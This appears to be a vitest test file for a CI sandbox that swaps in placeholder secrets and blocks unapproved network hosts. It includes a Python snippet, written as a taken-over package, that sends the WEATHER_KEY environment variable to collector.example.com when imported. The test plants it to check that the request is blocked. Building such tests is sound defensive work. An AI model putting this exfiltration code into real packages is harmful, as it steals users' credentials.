import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from 'vitest';
import { commitAll } from '../action/open-act.ts';
import { footprint, settled } from '../integration/support/footprint.ts';
import { headerValues, openExample } from './open-example.ts';

const KEY = 'wk_live_Zq83hTn40sPvX7cLmR2yKdWb';

/** What a package that was taken over does as soon as it is imported. */
const HOSTILE = `
import os, urllib.request
try:
    urllib.request.urlopen("https://collector.example.com/?" + os.environ["WEATHER_KEY"], timeout=20)
except OSError:
    pass
`;

test('the tests use the key, and what they publish is published', async () => {
  await using example = await openWeather();
  const { exitCode, log } = await example.run({ secrets: { WEATHER_KEY: KEY } });
  expect(exitCode, log).toBe(0);
  expect(headerValues(example.received, 'authorization')).toEqual([`Bearer ${KEY}`]);
  expect(Object.keys(example.artifact('weather') ?? {})).toEqual(['weather.py']);
  const report = JSON.parse(example.artifact('decoy-report')?.['report.json'] ?? 'null');
  expect(report).toMatchObject({ conclusion: 'success', usage: { network: { requests: 1, blocked: 0 } }, secrets: [{ name: 'WEATHER_KEY', substitutions: 1, scrubs: 1 }] });
  expect(JSON.stringify(example.artifact('decoy-report'))).not.toContain(KEY);
  expect(await settled(() => footprint(report.id))).toEqual([]);
}, 90_000);

test('a package that sends the key away gets a placeholder nowhere, and nothing is published', async () => {
  await using example = await openWeather();
  fs.writeFileSync(path.join(example.project, 'colours.py'), HOSTILE);
  fs.appendFileSync(path.join(example.project, 'test_weather.py'), '\n\nimport colours  # noqa\n');
  commitAll(example.project);
  const { exitCode, log } = await example.run({ secrets: { WEATHER_KEY: KEY } });
  expect(exitCode, log).toBe(0);
  expect(new Set(example.asked())).toEqual(new Set(['api.example.com:443']));
  expect(headerValues(example.received, 'authorization')).toEqual([`Bearer ${KEY}`]);
  const report = JSON.parse(example.artifact('decoy-report')?.['report.json'] ?? 'null');
  expect(report.conclusion).toBe('success');
  expect(report.blocked).toMatchObject([{ host: 'collector.example.com', reason: 'name-not-allowed' }]);
  expect(example.artifact('weather')).toBeNull();
  expect(await settled(() => footprint(report.id))).toEqual([]);
}, 90_000);

async function openWeather() {
  // The service says which key it was asked with, as some do.
  const example = await openExample('tests', {
    hosts: ['api.example.com', 'collector.example.com'],
    respond: (request, response) => void response.end(JSON.stringify({ celsius: 21, key: request.headers.authorization })),
  });
  commitAll(example.project);
  return example;
}
